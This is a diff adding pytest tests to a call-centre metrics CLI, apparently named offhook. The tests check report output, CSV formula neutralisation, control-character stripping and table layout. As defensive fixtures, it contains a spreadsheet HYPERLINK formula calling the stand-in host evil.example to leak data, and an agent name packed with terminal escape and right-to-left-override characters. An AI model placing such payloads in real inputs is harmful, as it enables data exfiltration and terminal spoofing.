@@ -6,14 +6,19 @@ import csv
 import hashlib
 import io
 import json
+import re
 import subprocess
 import sys
+from datetime import datetime
 from pathlib import Path
+from zoneinfo import ZoneInfo
 
 import pytest
+from rich.cells import cell_len
 
 from offhook.cli import main
 from offhook.metrics.store import CallRecorder
+from tests.metrics.calls import play
 from tests.metrics.test_report import ann_day
 
 OFFHOOK = Path(sys.executable).with_name("offhook")
@@ -153,3 +158,117 @@ def test_panel_without_a_daemon_fails_in_one_line(capsys: pytest.CaptureFixture[
     assert err.startswith(f"offhook: error: no daemon answers on 127.0.0.1:{port}") and err.count("\n") == 1
     code, _, err = run(capsys, "panel", "--api-port", "70000")
     assert code == 2 and "is not a port number" in err
+
+
+ANSI = re.compile(r"\x1b\[[0-9;]*m")
+START = datetime(2026, 3, 10, 9, 0, tzinfo=ZoneInfo("Europe/Berlin"))
+
+
+def agents_store(names: list[str]) -> None:
+    """One handled call for each agent name, in the data dir's store."""
+    with CallRecorder() as rec:
+        for i, name in enumerate(names):
+            play(rec, f"call-{i}", START, [("answered", 3), ("hung_up", 63), ("wrap_up_ended", 70)], agent=name)
+
+
+def on_terminal(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], width: int, *argv: str) -> str:
+    """Run as if on a terminal ``width`` columns wide; the output without colour codes."""
+    monkeypatch.setenv("COLUMNS", str(width))
+    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
+    code, out, err = run(capsys, *argv)
+    assert code == 0, err
+    return ANSI.sub("", out)
+
+
+def test_markup_in_agent_names_is_printed_as_it_is(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    agents_store(["[/bold]x", "Ann [night shift]", "[red]bob"])
+    code, out, err = run(capsys, "report", "--by", "agent")
+    assert code == 0, err
+    for name in ("[/bold]x", "Ann [night shift]", "[red]bob"):
+        assert name in out
+    code, out, err = run(capsys, "report", "--agent", "Ann [night shift]")
+    assert code == 0 and "agent Ann [night shift]" in out
+
+
+def test_csv_neutralises_formulas(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    names = ['=HYPERLINK("http://evil.example/?leak","click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rcr", "ann"]
+    agents_store(names)
+    code, out, _ = run(capsys, "report", "--by", "agent", "--format", "csv")
+    assert code == 0
+    groups = [row["group"] for row in csv.DictReader(io.StringIO(out))][:-1]
+    assert len(groups) == len(names)
+    for group in groups:
+        assert group[0] not in "=+-@\t\r", group
+    assert '\'=HYPERLINK("http://evil.example/?leak","click")' in groups
+    assert {"'+1", "'-2+3", "'@SUM(A1)", "ann"} <= set(groups)
+
+
+def test_control_characters_never_reach_the_terminal(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    evil = "eve\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\x08"
+    agents_store([evil])
+    for argv in (["--by", "agent"], ["--by", "agent", "--format", "csv"], ["--format", "json", "--by", "agent"]):
+        code, out, err = run(capsys, "report", *argv)
+        assert code == 0, err
+        assert "eve" in out
+        for control in ("\x1b", "\x07", "\x9b", "\u202e", "\x08"):
+            assert control not in out + err, (argv, out)
+    code, out, err = run(capsys, "report", "--agent", evil)
+    assert code == 0 and "\x1b" not in out + err
+
+
+def _cells(result: dict) -> list[str]:
+    """Every figure the table shows, as it shows it."""
+    from offhook.commands.metrics import _duration
+
+    cells = []
+    for row in [*result["groups"], result["total"]]:
+        cells += [str(row[k]) for k in ("calls", "handled", "missed", "abandoned", "escalated", "transferred")]
+        rate = (row["missed"] + row["abandoned"]) / row["calls"]  # unrounded, as the table shows it
+        cells += [str(row["long_holds"]), f"{rate:.1%}", _duration(row["aht_s"])]
+        for name in ("ring", "talk", "hold", "wrap"):
+            cells += [_duration(row[f"{name}_{what}_s"]) for what in ("mean", "median", "p90")]
+        cells += row["group"].replace("T", " ").split()
+    return cells
+
+
+@pytest.mark.parametrize("width", [80, 60])
+@pytest.mark.parametrize("by", ["day", "hour", "agent"])
+def test_table_never_cuts_a_number_or_a_group(
+    data_dir: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], width: int, by: str
+) -> None:
+    from tests.bench.bench_metrics import generate
+
+    data_dir.mkdir(parents=True)
+    generate(data_dir / "metrics.sqlite3", calls=40_000)  # four- and five-digit counts, five time zones
+    argv = ["report", "--by", by, *(["--since", "2026-03-01", "--until", "2026-03-01"] if by == "hour" else [])]
+    _, out, _ = run(capsys, *argv, "--format", "json")
+    expected = _cells(json.loads(out))
+    table = on_terminal(monkeypatch, capsys, width, *argv)
+    assert "…" not in table
+    assert max(cell_len(line) for line in table.splitlines()) <= width
+    shown = set(re.split(r"[\s│┃┏┓┗┛━─┡┩┼╇╈╋╀╁┿┯┷┠┨┣┫┳┻╸╹╺╻┄┅╍╌┝┥|/]+", table))
+    missing = [cell for cell in expected if cell not in shown]
+    assert not missing, f"cut or folded: {missing[:10]}\n{table}"
+
+
+def test_same_agent_name_in_two_stores_is_a_warning(
+    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    agents_store(["ann"])
+    with CallRecorder(tmp_path / "other.sqlite3") as other:
+        play(other, "other-1", START, [("missed", 5)])
+    code, out, err = run(
+        capsys,
+        "report",
+        "--db",
+        str(data_dir / "metrics.sqlite3"),
+        "--db",
+        str(tmp_path / "other.sqlite3"),
+        "--by",
+        "agent",
+        "--format",
+        "json",
+    )
+    assert code == 0
+    assert err.startswith("offhook: warning: ") and err.count("\n") == 1 and "'ann'" in err
+    assert sorted(group["calls"] for group in json.loads(out)["groups"]) == [1, 1]
